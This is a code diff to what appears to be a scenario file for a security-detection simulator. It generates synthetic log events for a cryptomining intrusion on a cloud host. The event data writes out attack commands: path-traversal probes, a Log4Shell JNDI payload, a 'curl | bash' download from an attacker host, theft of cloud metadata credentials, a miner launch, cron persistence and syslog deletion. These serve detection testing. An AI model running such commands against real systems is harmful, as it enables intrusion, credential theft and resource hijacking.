@@ -1,5 +1,5 @@
 /** Cryptomining on a cloud host after a web application compromise: a download, a hidden miner, cron for persistence. */
-import { connected, executed, fileChanged, syslog } from '../events/linux.ts';
+import { connected, cronJob, executed, fileChanged, syslog } from '../events/linux.ts';
 import { dnsLookup } from '../events/network.ts';
 import { webRequest } from '../events/web.ts';
 import { type Device, devicesWith } from '../fleet.ts';
@@ -23,10 +23,11 @@ export const cloudMining: Story = {
   keyRules: ['linux/download-piped-to-shell', 'linux/crypto-miner', 'linux/crontab-replaced', 'linux/web-server-starts-shell'],
   build(stage) {
     const { site, random } = stage;
-    const { at, events } = createStoryBuilder(stage);
+    const { on, events } = createStoryBuilder(stage);
     const machine = victimAt(site.organisationId, random.pick);
     const [resolver] = devicesWith(site.organisationId, 'resolver');
     const owner = peopleAt(site.organisationId)[0]!;
+    const onMachine = on(machine, owner);
     const inWeb = { user: 'www-data', parent: '/usr/bin/dash', directory: '/var/www/html', terminal: '(none)' };
 
     const probes = [
@@ -36,39 +37,33 @@ export const cloudMining: Story = {
       '/index.php?page=../../../../etc/passwd',
     ];
     probes.forEach((url, index) => {
-      at(index * 0.3, machine, owner, (scene) =>
+      onMachine(index * 0.3, (scene) =>
         webRequest(scene, { from: intruder, url, status: 404, bytes: 153, agent: 'Mozilla/5.0 zgrab/0.x' }),
       );
     });
-    at(2, machine, owner, (scene) =>
-      webRequest(scene, {
-        from: intruder,
-        url: `/?x=$%7Bjndi:ldap://${intruder}:1389/a%7D`,
-        status: 200,
-      }),
-    );
-    at(3, machine, owner, (scene) => executed(scene, { ...inWeb, executable: '/usr/bin/id', args: ['id'] }));
-    at(3.2, machine, owner, (scene) => executed(scene, { ...inWeb, executable: '/usr/bin/uname', args: ['uname', '-a'] }));
-    at(4, machine, owner, (scene) =>
+    onMachine(2, (scene) => webRequest(scene, { from: intruder, url: `/?x=$%7Bjndi:ldap://${intruder}:1389/a%7D`, status: 200 }));
+    onMachine(3, (scene) => executed(scene, { ...inWeb, executable: '/usr/bin/id', args: ['id'] }));
+    onMachine(3.2, (scene) => executed(scene, { ...inWeb, executable: '/usr/bin/uname', args: ['uname', '-a'] }));
+    onMachine(4, (scene) =>
       executed(scene, { ...inWeb, executable: '/usr/bin/dash', args: ['sh', '-c', `curl -fsSL http://${intruder}/x.sh | bash`] }),
     );
-    at(4.4, machine, owner, (scene) =>
+    onMachine(4.4, (scene) =>
       executed(scene, {
         ...inWeb,
         executable: '/usr/bin/curl',
         args: ['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role'],
       }),
     );
-    at(5, machine, owner, (scene) => fileChanged(scene, miner, 'created', 'www-data'));
-    at(5.5, machine, owner, (scene) =>
+    onMachine(5, (scene) => fileChanged(scene, miner, 'created', 'www-data'));
+    onMachine(5.5, (scene) =>
       executed(scene, {
         ...inWeb,
         executable: miner,
         args: [miner, '-o', 'stratum+tcp://pool.coins.example:3333', '-u', '48edfHu7V9Z84YzzMa6fUueo', '--donate-level=1', '-B'],
       }),
     );
-    at(5.7, machine, owner, (scene) => connected(scene, { executable: miner, user: 'www-data', to: pool, port: 3333 }));
-    at(6, machine, owner, (scene) =>
+    onMachine(5.7, (scene) => connected(scene, { executable: miner, user: 'www-data', to: pool, port: 3333 }));
+    onMachine(6, (scene) =>
       syslog(scene, {
         program: 'crontab',
         facility: 'cron',
@@ -76,25 +71,16 @@ export const cloudMining: Story = {
         text: '(www-data) REPLACE (www-data)',
       }),
     );
-    at(6.5, machine, owner, (scene) =>
+    onMachine(6.5, (scene) =>
       executed(scene, { ...inWeb, user: 'root', executable: '/usr/bin/rm', args: ['rm', '-f', '/var/log/syslog'] }),
     );
     for (let hour = 0; hour < 9; hour++) {
-      at(15 + hour * 60, machine, owner, (scene) =>
-        syslog(scene, {
-          program: 'CRON',
-          facility: 'cron',
-          pid: random.int(900, 60_000),
-          text: '(www-data) CMD (/bin/sh /var/tmp/.x/run.sh)',
-        }),
-      );
+      onMachine(15 + hour * 60, (scene) => cronJob(scene, '(www-data) CMD (/bin/sh /var/tmp/.x/run.sh)'));
       if (resolver)
-        at(15.2 + hour * 60, resolver, owner, (scene) =>
+        on(resolver, owner)(15.2 + hour * 60, (scene) =>
           dnsLookup(scene, { client: machine.ip, name: 'pool.coins.example', answer: pool }),
         );
-      at(15.4 + hour * 60, machine, owner, (scene) =>
-        connected(scene, { executable: miner, user: 'www-data', to: pool, port: 3333 }),
-      );
+      onMachine(15.4 + hour * 60, (scene) => connected(scene, { executable: miner, user: 'www-data', to: pool, port: 3333 }));
     }
     return events;
   },
